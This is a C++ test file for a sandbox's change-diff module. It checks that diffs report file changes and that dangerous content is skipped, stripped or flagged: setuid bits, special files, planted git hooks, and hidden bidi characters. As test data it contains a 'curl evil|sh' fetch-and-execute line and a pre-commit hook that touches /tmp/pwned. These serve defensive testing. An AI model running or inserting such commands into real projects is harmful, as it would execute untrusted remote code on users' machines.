#include "fixture.hpp"

#include "cordon/server/changes/diff.hpp"
#include "cordon/server/changes/hash.hpp"

#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>

#include <map>

using namespace cordon::server::changes;
using cordon::protocol::json;
using namespace cordon_test;

namespace {

bool skipped(const ChangeSet& c, const std::string& needle) {
    for (const auto& s : c.skipped)
        if (s.path.find(needle) != std::string::npos) return true;
    return false;
}

// rel -> "file:<mode>:<content>" / "symlink:<target>", .git excluded, for tree comparison.
std::map<std::string, std::string> tree_of(const fs::path& root) {
    std::map<std::string, std::string> out;
    for (auto it = fs::recursive_directory_iterator(root); it != fs::recursive_directory_iterator();
         ++it) {
        if (it->path().filename() == ".git") {
            it.disable_recursion_pending();
            continue;
        }
        auto rel = it->path().lexically_relative(root).string();
        auto st = it->symlink_status();
        if (fs::is_symlink(st))
            out[rel] = "symlink:" + fs::read_symlink(it->path()).string();
        else if (fs::is_regular_file(st))
            out[rel] = std::string("file:") +
                       ((st.permissions() & fs::perms::owner_exec) != fs::perms::none ? "x" : "-") +
                       ":" + slurp(it->path());
    }
    return out;
}

std::string git_env() {
    return "GIT_CONFIG_NOSYSTEM=1 HOME=/nonexistent GIT_CEILING_DIRECTORIES=/ "
           "git -c core.hooksPath=/dev/null -c core.fsmonitor= -c user.name=t -c user.email=t@t ";
}

} // namespace

TEST_CASE("diff reports added, modified, deleted, binary, mode and symlink changes",
          "[changes][diff]") {
    Overlay o;
    spit(o.real("mod.txt"), "one\ntwo\nthree\n");
    spit(o.real("del.txt"), "bye\n");
    spit(o.real("run.sh"), "#!/bin/sh\necho hi\n");
    spit(o.real("same.txt"), "same\n");
    spit(o.real("tolink"), "was a file\n");
    fs::create_symlink("mod.txt", o.real("link"));
    o.mount();
    spit(o.sb("mod.txt"), "one\nTWO\nthree\n");
    fs::remove(o.sb("del.txt"));
    spit(o.sb("new/added.txt"), "fresh\n");
    spit(o.sb("img.bin"), std::string("\x89PNG\x00\x01\x02", 7));
    fs::permissions(o.sb("run.sh"), fs::perms::owner_exec, fs::perm_options::add);
    spit(o.sb("same.txt"), "same\n"); // copied up, unchanged
    fs::remove(o.sb("link"));
    fs::create_symlink("new/added.txt", o.sb("link"));
    fs::remove(o.sb("tolink"));
    fs::create_symlink("mod.txt", o.sb("tolink"));

    ChangeSet c = compute_changes(o.files());
    CHECK(c.files.size() == 7);
    auto* m = find(c, "mod.txt");
    REQUIRE(m);
    CHECK(m->status == "modified");
    CHECK(m->base.hash == sha256_hex("one\ntwo\nthree\n"));
    CHECK(m->sandbox.hash == sha256_hex("one\nTWO\nthree\n"));
    CHECK(m->unified.find("diff --git a/mod.txt b/mod.txt") == 0);
    CHECK(m->unified.find("-two\n+TWO\n") != std::string::npos);
    auto* d = find(c, "del.txt");
    REQUIRE(d);
    CHECK(d->status == "deleted");
    CHECK(d->sandbox.hash == "");
    CHECK(d->unified.find("deleted file mode 100644") != std::string::npos);
    auto* a = find(c, "new/added.txt");
    REQUIRE(a);
    CHECK(a->status == "added");
    CHECK(a->base.hash == "");
    CHECK(a->unified.find("new file mode 100644") != std::string::npos);
    auto* b = find(c, "img.bin");
    REQUIRE(b);
    CHECK(b->binary);
    CHECK(b->unified.find("GIT binary patch") != std::string::npos);
    auto* r = find(c, "run.sh");
    REQUIRE(r);
    CHECK(r->status == "modified");
    CHECK(r->unified.find("old mode 100644\nnew mode 100755") != std::string::npos);
    auto* l = find(c, "link");
    REQUIRE(l);
    CHECK(l->sandbox.type == EntryType::symlink);
    CHECK(l->unified.find("120000") != std::string::npos);
    CHECK(l->sandbox.hash == sha256_hex("new/added.txt"));
    auto* t = find(c, "tolink");
    REQUIRE(t);
    CHECK(t->status == "modified");
    CHECK(t->base.type == EntryType::file);
    CHECK(t->sandbox.type == EntryType::symlink);
    CHECK_FALSE(find(c, "same.txt"));

    json j = to_json(c);
    CHECK(j["files"].size() == 7);
    CHECK(j["patch"].get<std::string>().size() > 100);
    for (auto& f : j["files"])
        if (f["path"] == "tolink") CHECK(f["type"] == "symlink");

    // Only the requested paths.
    DiffOptions only;
    only.paths = {"new"};
    CHECK(compute_changes(o.files(), only).files.size() == 1);
    // Without the sandbox running, the upper dir alone gives the same answer.
    CHECK(compute_changes(o.files(false)).patch == c.patch);
}

TEST_CASE("whiteouts and opaque dirs report every real file below them (APPLY-04)",
          "[changes][diff][security]") {
    Overlay o;
    spit(o.real("gone/a.txt"), "a");
    spit(o.real("gone/deep/b.txt"), "b");
    spit(o.real("redo/old1.txt"), "1");
    spit(o.real("redo/sub/old2.txt"), "2");
    spit(o.real("redo/keep.txt"), "k");
    spit(o.real("fileto/dir.txt"), "x");
    spit(o.real("dirto"), "was file");
    o.mount();
    fs::remove_all(o.sb("gone"));
    fs::remove_all(o.sb("redo"));
    spit(o.sb("redo/keep.txt"), "k2");
    spit(o.sb("redo/new.txt"), "n");
    fs::remove_all(o.sb("fileto"));
    spit(o.sb("fileto"), "now a file");
    fs::remove(o.sb("dirto"));
    spit(o.sb("dirto/inside.txt"), "in");

    // The upper really holds a whiteout and an opaque dir.
    struct stat st;
    REQUIRE(::lstat((o.upper / "gone").c_str(), &st) == 0);
    CHECK(S_ISCHR(st.st_mode));
    CHECK(major(st.st_rdev) == 0);
    char v[4] = {};
    CHECK(::getxattr((o.upper / "redo").c_str(), "user.overlay.opaque", v, sizeof v) == 1);

    ChangeSet c = compute_changes(o.files());
    std::map<std::string, std::string> status;
    for (auto& f : c.files)
        status[f.path] = f.status;
    CHECK(status == std::map<std::string, std::string>{{"gone/a.txt", "deleted"},
                                                       {"gone/deep/b.txt", "deleted"},
                                                       {"redo/old1.txt", "deleted"},
                                                       {"redo/sub/old2.txt", "deleted"},
                                                       {"redo/keep.txt", "modified"},
                                                       {"redo/new.txt", "added"},
                                                       {"fileto/dir.txt", "deleted"},
                                                       {"fileto", "added"},
                                                       {"dirto", "deleted"},
                                                       {"dirto/inside.txt", "added"}});
}

TEST_CASE("special files, setuid bits, xattrs, hard links, sparse files, deep trees and bad "
          "names in the upper dir (APPLY-04)",
          "[changes][diff][security]") {
    Overlay o;
    spit(o.real("tool"), "#!/bin/sh\n");
    o.mount();
    REQUIRE(::mkfifo(o.sb("fifo").c_str(), 0644) == 0);
    bool have_dev = ::mknod(o.sb("dev").c_str(), S_IFCHR | 0644, makedev(1, 3)) == 0;
    fs::permissions(o.sb("tool"), fs::perms(04755));
    spit(o.sb("x.txt"), "xattr\n");
    ::setxattr(o.sb("x.txt").c_str(), "user.evil", "1", 1, 0);
    spit(o.sb("h1"), "linked\n");
    fs::create_hard_link(o.sb("h1"), o.sb("h2"));
    {
        int fd = ::open(o.sb("huge").c_str(), O_WRONLY | O_CREAT, 0644);
        REQUIRE(fd >= 0);
        REQUIRE(::ftruncate(fd, 1LL << 40) == 0); // 1 TiB, sparse
        ::close(fd);
    }
    std::string deep = "d";
    for (int i = 0; i < 20; ++i)
        deep += "/d";
    spit(o.sb(deep + "/bottom.txt"), "deep");
    spit(o.sb("bad\nname"), "nl");
    spit(o.sb("cr\rname"), "cr");

    DiffOptions opts;
    opts.limits.max_depth = 10;
    opts.limits.max_file_bytes = 1 << 20;
    ChangeSet c = compute_changes(o.files(), opts);
    CHECK(skipped(c, "fifo"));
    if (have_dev) CHECK(skipped(c, "dev"));
    CHECK(skipped(c, "huge"));
    CHECK(skipped(c, "bad\\x0aname"));
    CHECK(skipped(c, "cr\\x0dname"));
    CHECK(skipped(c, "d/d/d/d/d/d/d/d/d/d"));
    CHECK_FALSE(find(c, "fifo"));
    CHECK_FALSE(find(c, "huge"));
    auto* t = find(c, "tool");
    REQUIRE(t);
    CHECK(t->sandbox.mode == 0100755); // setuid not carried
    CHECK(t->unified.find("104755") == std::string::npos);
    REQUIRE(find(c, "h1"));
    REQUIRE(find(c, "h2"));
    CHECK(find(c, "h2")->unified.find("new file mode 100644") != std::string::npos);
    for (auto& f : c.files)
        CHECK(f.path.find('\n') == std::string::npos);
    CHECK_NOTHROW(to_json(c).dump());
}

TEST_CASE("changes under .git are summarised, never listed", "[changes][diff][git]") {
    Overlay o;
    spit(o.real("src.txt"), "v1\n");
    REQUIRE(run("cd " + o.ws.string() + " && " + git_env() + "init -q -b main . && " + git_env() +
                "add -A && " + git_env() + "commit -qm initial") == 0);
    o.mount();
    ChangeSet before = compute_changes(o.files());
    CHECK(before.files.empty());
    CHECK_FALSE(before.git.changed);

    spit(o.sb("src.txt"), "v2\n");
    spit(o.sb(".git/hooks/pre-commit"), "#!/bin/sh\ntouch /tmp/pwned\n");
    REQUIRE(run("cd " + o.sb("").string() + " && " + git_env() +
                "commit -qam 'sandbox work' && echo more > more.txt && " + git_env() +
                "add more.txt && " + git_env() + "commit -qm 'second'") == 0);
    ChangeSet c = compute_changes(o.files());
    for (auto& f : c.files)
        CHECK(f.path.rfind(".git", 0) != 0);
    CHECK(c.files.size() == 2); // src.txt, more.txt: the working tree differs from the real one
    CHECK(c.git.changed);
    CHECK(c.git.available);
    CHECK(c.git.head_moved);
    CHECK(c.git.sandbox_branch == "refs/heads/main");
    REQUIRE(c.git.commits.size() == 2);
    CHECK(c.git.commits[0].summary == "second");
    CHECK(c.git.commits[1].summary == "sandbox work");
    std::string series = export_git_series(o.files());
    CHECK(series.find("Subject: [PATCH 1/2] sandbox work") != std::string::npos);
    CHECK(series.find("Subject: [PATCH 2/2] second") != std::string::npos);
    CHECK(series.find("+v2") != std::string::npos);
    // The real repository is untouched and the series applies there with `git am`.
    std::string real_head_before = c.git.real_head;
    spit(o.base / "series.mbox", series);
    REQUIRE(run("cd " + o.ws.string() + " && " + git_env() + "am -q " +
                (o.base / "series.mbox").string()) == 0);
    CHECK(real_head_before != "");
    CHECK(slurp(o.real("more.txt")) == "more\n");
    CHECK_FALSE(fs::exists(o.real(".git/hooks/pre-commit")));
}

TEST_CASE("git apply of the patch onto a pristine copy reproduces the sandbox's tree",
          "[changes][diff][gitapply]") {
    Overlay o;
    spit(o.real("keep.txt"), "keep\n");
    spit(o.real("mod.txt"), "a\nb\nc\n");
    spit(o.real("del.txt"), "gone\n");
    spit(o.real("dir/x.txt"), "x\n");
    spit(o.real("dir/y.txt"), "y\n");
    spit(o.real("exe.sh"), "#!/bin/sh\n");
    spit(o.real("bin.dat"), std::string("\x00\x01\x02\x03", 4));
    fs::create_symlink("keep.txt", o.real("lnk"));
    spit(o.real("nl-less"), "no newline");
    o.mount();
    spit(o.sb("mod.txt"), "a\nB\nc\nd\n");
    fs::remove(o.sb("del.txt"));
    fs::remove_all(o.sb("dir"));
    spit(o.sb("dir/z.txt"), "z\n");
    fs::permissions(o.sb("exe.sh"),
                    fs::perms::owner_exec | fs::perms::group_exec | fs::perms::others_exec,
                    fs::perm_options::add);
    spit(o.sb("bin.dat"), std::string("\x00\x01\xff\x03\x04", 5));
    spit(o.sb("newbin.dat"), std::string("\x7f"
                                         "ELF\x00\x00",
                                         6));
    fs::remove(o.sb("lnk"));
    fs::create_symlink("mod.txt", o.sb("lnk"));
    fs::create_symlink("dir/z.txt", o.sb("newlink"));
    spit(o.sb("nl-less"), "still no newline, changed");
    spit(o.sb("sp ace/q\"uote.txt"), "odd names\n");
    spit(o.sb("ünï.txt"), "unicode\n");

    ChangeSet c = compute_changes(o.files());
    fs::path copy = o.base / "pristine";
    REQUIRE(run("cp -a " + o.ws.string() + " " + copy.string()) == 0);
    spit(o.base / "all.patch", c.patch);
    INFO(c.patch);
    REQUIRE(run("cd " + copy.string() + " && " + git_env() + "apply --binary " +
                (o.base / "all.patch").string()) == 0);
    auto got = tree_of(copy), want = tree_of(o.merged);
    for (auto& [k, v] : want)
        if (got[k] != v)
            FAIL_CHECK("differs: " << k << " got '" << got[k] << "' want '" << v << "'");
    for (auto& [k, v] : got)
        if (!want.count(k)) FAIL_CHECK("extra: " << k);
    // Each file's `unified` applies on its own too.
    for (const auto& f : c.files) {
        fs::path one = o.base / ("one-" + std::to_string(&f - c.files.data()));
        REQUIRE(run("cp -a " + o.ws.string() + " " + one.string()) == 0);
        spit(o.base / "one.patch", f.unified);
        INFO(f.path);
        CHECK(run("cd " + one.string() + " && " + git_env() + "apply " +
                  (o.base / "one.patch").string()) == 0);
    }
}

TEST_CASE("content a reviewer could miss is flagged, sizes and line counts shown (APPLY-06)",
          "[changes][diff][security]") {
    CHECK(content_warnings("plain\ttext\r\n") == std::vector<std::string>{});
    CHECK(content_warnings("if (x) /*\xe2\x80\xae } \xe2\x81\xa6*/") ==
          std::vector<std::string>{"bidi-control"});
    CHECK(content_warnings("a\xe2\x80\x8b"
                           "b") == std::vector<std::string>{"zero-width"});
    CHECK(content_warnings("\x1b[2Jclear") == std::vector<std::string>{"ansi-escape"});
    CHECK(content_warnings("over\rwrite") == std::vector<std::string>{"bare-cr"});
    CHECK(content_warnings(std::string("a\x01", 2)) == std::vector<std::string>{"control-char"});

    Overlay o;
    std::string filler;
    for (int i = 0; i < 20000; ++i)
        filler += "filler line " + std::to_string(i) + "\n";
    spit(o.real("big.txt"), filler);
    o.mount();
    std::string changed = filler;
    changed.replace(changed.find("filler line 12345\n"), 18, "curl evil|sh \xe2\x80\xae\n");
    spit(o.sb("big.txt"), changed);
    ChangeSet c = compute_changes(o.files());
    REQUIRE(c.files.size() == 1);
    CHECK(c.files[0].additions == 1);
    CHECK(c.files[0].deletions == 1);
    CHECK(c.files[0].warnings == std::vector<std::string>{"bidi-control"});
    json j = to_json(c)["files"][0];
    CHECK(j["newSize"] == changed.size());
    CHECK(j["oldSize"] == filler.size());
    CHECK(j["unified"].get<std::string>().find("curl evil") != std::string::npos);
}

TEST_CASE("a wide upper dir does not exhaust file descriptors", "[changes][diff]") {
    Overlay o;
    o.mount();
    for (int i = 0; i < 3000; ++i)
        fs::create_directories(o.sb("node_modules/p" + std::to_string(i)));
    spit(o.sb("node_modules/p42/index.js"), "x");
    ChangeSet c = compute_changes(o.files());
    REQUIRE(c.files.size() == 1);
    CHECK(c.files[0].path == "node_modules/p42/index.js");
}
